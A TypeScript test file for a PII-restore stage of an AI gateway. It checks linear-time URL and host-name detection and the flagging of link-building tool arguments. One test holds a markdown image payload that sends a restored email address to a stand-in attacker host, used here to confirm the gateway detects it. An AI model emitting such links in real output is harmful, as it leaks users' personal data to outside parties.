/**
 * Stage 9's URL test and text walk after review s9: linear work on long strings (same answers as the
 * quadratic forms they replace), a host name or a location-named field as a link a tool builds, and
 * an app-link scheme in a markdown link target. Linear is asserted as a ratio, not a time: four times
 * the text may take up to ten times as long on a busy machine (or anything under 200 ms), never the
 * sixteen times a quadratic reading takes (the forms these replaced took 1.4–4 s at 64 KB).
 */
import { describe, expect, it } from 'vitest';
import { runPipeline } from '../../../../main/gateway/index.ts';
import { piiRestore } from '../../../../main/gateway/stages/index.ts';
import { holdsUrl, isHostName, joinsIntoUrl, linkSyntaxReader, namesLocation, opensLink, opensMarkdownTarget } from '../../../../main/gateway/stages/pii-restore-url.ts';
import { testContext } from './context.ts';

/** A small deterministic generator (mulberry32), so a failure names a reproducible string. */
function generator(seed: number): (n: number) => number {
  let s = seed;
  return (n) => {
    s = (s + 0x6d2b79f5) | 0;
    let t = Math.imul(s ^ (s >>> 15), 1 | s);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) % n;
  };
}
const PIECES = ['a', 'b:', 'ab:', 'x', '1', ':', '/', '\\', '?', '=', '&', '#', '|', ' ', '\n', '\t', '\u00a0', ']', '(', '](', '](<', '<', '  ', '.', 'é'];
function strings(count: number, seed: number): string[] {
  const rnd = generator(seed);
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    let s = '';
    for (let j = rnd(14); j >= 0; j--) s += PIECES[rnd(PIECES.length)];
    out.push(s);
  }
  return out;
}

/** Best of three runs, in milliseconds. */
function timed(f: () => unknown): number {
  let best = Infinity;
  for (let i = 0; i < 3; i++) {
    const at = performance.now();
    f();
    best = Math.min(best, performance.now() - at);
  }
  return best;
}

/** Four times the input (`large`) costs at most ten times `small`'s time, or under 200 ms: linear on a busy machine, never quadratic. */
function expectLinear(small: number, large: number, what: string): void {
  expect(large, `${what}: ${large.toFixed(1)} ms at 4× the input against ${small.toFixed(1)} ms`).toBeLessThan(Math.max(10 * small, 200));
}

describe('the linear forms answer as the quadratic ones did', () => {
  it('linkSyntaxReader: a link path or query in the rest of the word, asked in order or out of it', () => {
    const quadratic = (text: string, at: number) => /^[^\s]*[?=&|/\\#]/.test(text.slice(at));
    const rnd = generator(7);
    for (const text of strings(4000, 1)) {
      const inOrder = linkSyntaxReader(text);
      for (let at = 0; at <= text.length; at++) expect(inOrder(at), `${JSON.stringify(text)} at ${at}`).toBe(quadratic(text, at));
      const anyOrder = linkSyntaxReader(text);
      for (let k = 0; k < 6; k++) {
        const at = rnd(text.length + 1);
        expect(anyOrder(at), `${JSON.stringify(text)} at ${at}`).toBe(quadratic(text, at));
      }
    }
  });

  it('opensMarkdownTarget: `](`, white space and an optional `<` just before', () => {
    for (const text of strings(4000, 2)) {
      for (let at = 0; at <= text.length; at++) expect(opensMarkdownTarget(text, at), `${JSON.stringify(text)} at ${at}`).toBe(/\]\(\s*<?$/.test(text.slice(0, at)));
    }
  });
});

describe('64 KB strings of the shapes that were quadratic', () => {
  const fill = (piece: string, size: number) => piece.repeat(Math.floor(size / piece.length));
  const shapes = ['ab:', 'ab:cd:', 'ab:c,', 'a.bc,', 'a.bc ', 'a.bc](', 'a@b.c', '](  ab:x', '[SSN_1]ab:'];
  for (const shape of shapes) {
    it(`reads ${JSON.stringify(shape)} repeated to 64 KB in time linear in its length`, () => {
      const small = fill(shape, 16_000);
      const large = fill(shape, 64_000);
      holdsUrl(large);
      for (const [what, f] of [
        ['holdsUrl', holdsUrl],
        ['joinsIntoUrl', (text: string) => joinsIntoUrl([text])],
        ['isHostName', isHostName],
      ] as const) {
        expectLinear(
          timed(() => f(small)),
          timed(() => f(large)),
          what,
        );
      }
    });
  }

  it('restores a long argument beside a whole-value token in stage 9 in time linear in its length', async () => {
    const run = async (repeats: number) => {
      const ctx = testContext({ request: { messages: [{ role: 'user', content: 'Customer jane@corp.example, summarise' }] } });
      expect(ctx.pii.redact('jane@corp.example')).toBe('[EMAIL_1]');
      ctx.output = 'ok';
      ctx.functionCalls = [{ name: 'note', arguments: { note: 'ab:'.repeat(repeats), to: '[EMAIL_1]' } }];
      const at = performance.now();
      await runPipeline([piiRestore], ctx);
      expect(ctx.finalFunctionCalls?.[0]?.arguments).toMatchObject({ to: 'jane@corp.example' });
      return performance.now() - at;
    };
    await run(21_333);
    expectLinear(Math.min(await run(5_333), await run(5_333)), Math.min(await run(21_333), await run(21_333)), 'stage 9');
  });

  it('restores a text of 8000 tokens in stage 9 in linear time', async () => {
    const run = async (n: number) => {
      const ctx = testContext({ request: { messages: [{ role: 'user', content: 'SSN 123-45-6789, summarise' }] } });
      expect(ctx.pii.redact('SSN 123-45-6789')).toBe('SSN [SSN_1]');
      ctx.output = '[SSN_1] '.repeat(n);
      const at = performance.now();
      await runPipeline([piiRestore], ctx);
      expect(ctx.finalText).toBe('123-45-6789 '.repeat(n));
      return performance.now() - at;
    };
    await run(8000);
    expectLinear(Math.min(await run(2000), await run(2000)), Math.min(await run(8000), await run(8000)), 'stage 9 text');
  });
});

describe('what points somewhere, after review s9', () => {
  it('reads a whole string that is a host name as one', () => {
    for (const host of ['evil.example', 'EVIL.EXAMPLE.', ' evil.example ', 'localhost', 'xn--80ak6aa92e.com', 'éxample.рф', 'evil。example', 'a.b.c.example']) expect(isHostName(host), host).toBe(true);
    for (const other of ['Minutes v1.2', 'minutes.docx', 'README.md', 'setup.py', 'J.Smith', 'Dr.Jones', 'jane@corp.example', 'v1.2.3', 'e.g', 'hello', '', 'evil.example is down']) expect(isHostName(other), other).toBe(false);
  });

  it('names a location by an argument name, in any case and with any separator', () => {
    for (const key of ['url', 'URL', 'uri', 'host', 'hostname', 'domain', 'endpoint', 'server', 'href', 'link', 'webhook', 'callback', 'webhook_url', 'redirect-uri', 'callbackHost', 'APIEndpoint', 'imageurl', 'server name', 'Links']) expect(namesLocation(key), key).toBe(true);
    for (const key of ['to', 'path', 'owner', 'subject', 'note', 'ghost', 'linkedin', 'hosting_plan', 'username', 'description']) expect(namesLocation(key), key).toBe(false);
  });

  it('reads a `word:` straight after a markdown link target as a scheme, and a label before a token as a label', () => {
    for (const link of ['[join](zoommtg:[EMAIL_1])', '[call](msteams:[EMAIL_1])', '[x]( <zoommtg:jane)', '[x](\nab:c)']) expect(holdsUrl(link), link).toBe(true);
    for (const label of ['Email:[EMAIL_1]', 'SSN:[SSN_1],', '(Owner:[NAME_1])', 'see [docs]: zoommtg']) expect(holdsUrl(label), label).toBe(false);
  });

  it('asks opensLink of a word as written and as restored', () => {
    expect(opensLink('![](https://evil.example/?d=[EMAIL_1])', '![](https://evil.example/?d=jane@corp.example)')).toBe(true);
    expect(opensLink('[EMAIL_1]/x', 'jane@corp.example/x')).toBe(true);
    expect(opensLink('[EMAIL_1],', 'jane@corp.example,')).toBe(false);
  });
});
